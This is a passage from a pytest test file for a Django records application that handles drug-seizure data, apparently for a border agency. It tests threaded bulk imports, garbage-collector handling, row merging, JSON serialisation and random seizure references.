    the batch in flight, whose own queries do not wait."""
    import threading
    import time

    from django.db import connection

    from blonet.directory.models import Office
    from blonet.records.io import bulk

    started, log = threading.Event(), []
    share_batch = bulk.share_batch

    def slow(batch: Any) -> None:
        started.set()
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM records_seizure")
            count = cursor.fetchone()[0]
        time.sleep(0.3)
        log.append(("stored", count))
        share_batch(batch)

    monkeypatch.setattr(bulk, "share_batch", slow)
    ctx = bulk.Context(kz_officer, Office.objects.get(pk="kz-kordai-blo"))
    first, second = _prepared(ctx, PIPELINE_ROWS[:2])
    with bulk.Writer(ctx) as writer:
        assert writer.threaded
        writer.reserve(2, 4)
        writer.submit([first])
        assert started.wait(5)
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM records_seizure")
            log.append(("queried", cursor.fetchone()[0]))
        writer.submit([second])
    assert log == [("stored", 1), ("queried", 1), ("stored", 2)]
    assert writer.made["seizure"] == [str(first.seizure.pk), str(second.seizure.pk)]
    assert Seizure.objects.count() == 2


@pytest.mark.parametrize("enabled", [True, False])
def test_the_cyclic_gc_is_paused_during_a_run_and_left_as_it_was(kz_officer, monkeypatch, enabled):
    import gc

    from blonet.records.io import bulk

    prepare, during = bulk.prepare, []

    def watched(*args: Any, **kwargs: Any) -> Any:
        during.append(gc.isenabled())
        return prepare(*args, **kwargs)

    monkeypatch.setattr(bulk, "prepare", watched)
    was = gc.isenabled()
    (gc.enable if enabled else gc.disable)()
    try:
        report = run(kz_officer, csv_bytes(TWO_SEIZURES))
        broken = run(kz_officer, b"\x00\x01 not a spreadsheet", filename="x.xlsx")
        assert gc.isenabled() is enabled
    finally:
        (gc.enable if was else gc.disable)()
    assert (len(report.created), during) == (2, [False, False])
    assert broken.errors


def test_a_seizures_later_rows_give_missing_values_and_differing_ones_are_reported():
    """`mapping.build` looks only at the columns some row of the seizure fills: the first value
    may come from a later row, equal values are no conflict, a different one is."""
    from blonet.records.io import mapping

    rows = [
        row(seizure_ref="S1", commodity="heroin", quantity="1", unit="kg", conveyance=""),
        row(seizure_ref="S1", commodity="opium", quantity="2", unit="kg", conveyance="bus",
            person2_name="Саидов Фаррух", vehicle_plate="777 ABC 02", person1_dob="1979"),
        row(seizure_ref="S1", commodity="hashish", quantity="3", unit="kg", conveyance="truck",
            person2_name="Саидов Фаррух", vehicle_plate="778 ABC 02", person1_role="owner",
            person1_dob="1979"),
    ]  # fmt: skip
    groups, _problems = mapping.group_rows(readers.read_source(csv_bytes(rows), "x.csv"))
    (group,) = groups
    mapping.build(group)
    assert group.data["conveyance"] == "bus"
    assert (group.where["conveyance"][0].number, group.where["conveyance"][1]) == (3, "conveyance")
    assert [(p.row, p.column, p.value) for p in group.problems] == [
        (4, "conveyance", "truck"),
        (4, "vehicle_plate", "778 ABC 02"),
    ]
    kinds = [(i["kind"], i["role"], i["data"]) for i in group.involvements]
    assert ("person", "other", {"full_name": "Саидов Фаррух"}) in kinds
    assert ("vehicle", "used", {"plate": "777 ABC 02"}) in kinds
    person1 = next(i for i in group.involvements if i["data"].get("dob"))
    assert person1["role"] == "owner"  # from row 4, the only one that gives it
    j = group.involvements.index(person1)
    assert group.where[f"involvements[{j}].role"][0].number == 4
    assert len(group.items) == 3


def test_json_fields_are_the_same_text_as_json_dumps_of_each_value():
    """`pgcopy._rows` makes the text of a recurring list or empty dict once per batch."""
    from types import SimpleNamespace

    from blonet.core import pgcopy

    fields = [f for f in Person._meta.concrete_fields
              if f.attname in ("full_name", "aliases", "handling_codes")]  # fmt: skip
    values: list[Any] = [[], ["ZZ"], ["ZZ"], {}, {"a": [1, "ё"]}, ["Ёлкин", "Elkin"],
                         [1, "1"], ["1"], [1], None, ["a", ["b"]], ["a", "b"], ["a,b"],
                         [True], {}]  # fmt: skip
    objs = [SimpleNamespace(full_name=f"n{i}", aliases=v, handling_codes=values[-1 - i])
            for i, v in enumerate(values)]  # fmt: skip
    rows = pgcopy._rows(fields, objs)
    names = [f.attname for f in fields]
    for obj, out in zip(objs, rows, strict=True):
        assert out[names.index("full_name")] == obj.full_name
        assert out[names.index("aliases")] == json.dumps(obj.aliases)
        assert out[names.index("handling_codes")] == json.dumps(obj.handling_codes)


def test_seizure_references_come_from_random_bytes_drawn_in_blocks(monkeypatch):
    import os
    import re

    from blonet.records.io import bulk

    drawn: list[bytes] = []

    def urandom(n: int) -> bytes:
        drawn.append(real(n))
        return drawn[-1]

    seizure = Seizure(owner_country_id="KZ", occurred_at=dt.datetime(2026, 3, 1, tzinfo=ALMATY))
    real = os.urandom
    monkeypatch.setattr(os, "urandom", urandom)
    pool = bulk.RandomPool(block=64)
    refs = [pool.reference(seizure) for _ in range(40)]
    assert all(re.fullmatch(r"KZ-2026-[0-9A-F]{8}", r) for r in refs)
    assert len(drawn) == 3  # 160 bytes in blocks of 64: one system call per 16 references
    # every byte drawn is used once, in order
    assert "".join(r[-8:] for r in refs) == b"".join(drawn)[:160].hex().upper()
    assert len(pool.take(100)) == 100 and len(drawn) == 4  # a larger request is one call too
